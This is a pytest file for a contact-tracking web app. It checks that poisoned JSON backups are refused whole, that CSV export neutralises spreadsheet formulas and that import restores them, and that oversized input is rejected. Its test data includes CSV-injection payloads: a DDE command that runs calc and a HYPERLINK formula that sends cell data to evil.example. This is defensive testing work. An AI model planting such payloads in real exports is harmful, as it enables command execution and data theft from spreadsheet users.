"""Issue 11: the dashboard's import form refuses poisoned backups whole; CSV cells never reach a
spreadsheet as formulas, and the CSV import reads them back as they were."""

import csv
import io
import json

import pytest
from dashboard_helpers import NOW, post_form

from coffeechat.exporting import neutralise, unneutralise
from coffeechat.pairing import get_token
from coffeechat.webapp import create_app
from helpers import LocalClient

FORMULAS = ["+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3", "@SUM(A1)",
            "\tpadded", "\rreturn"]


def _upload(browser, name: str, content: str):
    return post_form(browser, "/settings/import", {"step": "preview", "file": (io.BytesIO(content.encode()), name)},
                     content_type="multipart/form-data")


def _backup(**poison) -> dict:
    good = {"id": 1, "key": "https://www.linkedin.com/in/good/", "full_name": "Good", "stage": "saved", "tags": [],
            "captures": [], "log": []}
    bad = {**good, "id": 2, "key": "https://www.linkedin.com/in/bad/", "full_name": "Bad", **poison}
    return {"app": "coffeechat", "format": 1, "settings": {}, "prospects": [good, bad]}


@pytest.mark.parametrize("poison", [{"id": True}, {"tags": 5}, {"key": {}}, {"full_name": 5}],
                         ids=["id-true", "tags-5", "key-object", "name-5"])
def test_a_poisoned_backup_in_the_import_form_is_refused_whole(app, browser, store, poison):
    assert _upload(browser, "backup.json", json.dumps(_backup(**poison))).status_code == 303
    html = browser.get("/settings").get_data(as_text=True)
    assert "prospect 2 in the file" in html and "nothing was imported" in html
    assert 'value="confirm"' not in html  # no Import button for a file that cannot be imported
    r = post_form(browser, "/settings/import", {"step": "confirm"})  # sent anyway: still refused
    assert r.status_code == 422
    assert store.count() == 0
    data_dir = store.data_dir
    store.close()
    again = create_app({"data_dir": data_dir, "port": 5757})
    again.config["COFFEECHAT_CLOCK"] = lambda: NOW
    again.test_client_class = LocalClient
    try:
        client = again.test_client()
        client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {get_token(data_dir)}"
        assert client.get("/").status_code == 200
        assert client.get("/api/v1/export?format=json").status_code == 200
        r = client.post("/api/v1/captures", json={"url": "https://www.linkedin.com/in/good/",
                                                  "html": "<html><head><title>x</title></head></html>"})
        assert r.status_code < 500
    finally:
        again.extensions["coffeechat_store"].close()


def test_csv_export_neutralises_formulas_and_the_import_reads_them_back(client, browser, store, people):
    pid = people["profile-2022-self"]
    client.patch(f"/api/v1/prospects/{pid}", json={"full_name": FORMULAS[0], "headline": FORMULAS[1],
                                                   "notes": FORMULAS[2], "tags": [FORMULAS[3]],
                                                   "location": FORMULAS[4], "email": None})
    text = client.get("/api/v1/export?format=csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], "a cell starts like a formula"
    row = next(r for r in rows if r["id"] == str(pid))
    assert row["full_name"] == "'" + FORMULAS[0] and row["headline"] == "'" + FORMULAS[1]
    assert row["notes"] == "'-2+3" and row["tags"] == "'@SUM(A1)" and row["location"] == "'\tpadded"
    assert browser.get("/export/csv", headers={"Sec-Fetch-Site": "same-origin"}).get_data(as_text=True) == text

    # Importing our own export gives back the values as they were, not with the quotes.
    client.patch(f"/api/v1/prospects/{pid}", json={"notes": "changed"})
    assert _upload(browser, "again.csv", text).status_code == 303
    post_form(browser, "/settings/import", {"step": "confirm"})
    after = store.get(pid)
    assert after["notes"] == FORMULAS[2] and FORMULAS[3] in after["tags"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_neutralise_and_unneutralise_are_inverse(cell):
    assert neutralise(cell).startswith("'") and unneutralise(neutralise(cell)) == cell
    assert neutralise("Ada Lovelace") == "Ada Lovelace" and unneutralise("'quoted") == "'quoted"


def test_a_csv_field_over_the_csv_limit_is_a_clear_400(browser, store):
    big = "x" * 140_000
    r = _upload(browser, "big.csv", f"full_name,notes\nAda,{big}\n")
    assert r.status_code == 400 and "row 2" in r.get_data(as_text=True)
    r = _upload(browser, "big.csv", f"full_name,{big}\nAda,x\n")
    assert r.status_code == 400 and "header" in r.get_data(as_text=True)
    assert store.count() == 0


def test_a_backup_nested_too_deeply_is_a_clear_400(browser, store):
    r = _upload(browser, "deep.json", "[" * 100_000 + "]" * 100_000)
    assert r.status_code == 400 and "nested too deeply" in r.get_data(as_text=True)
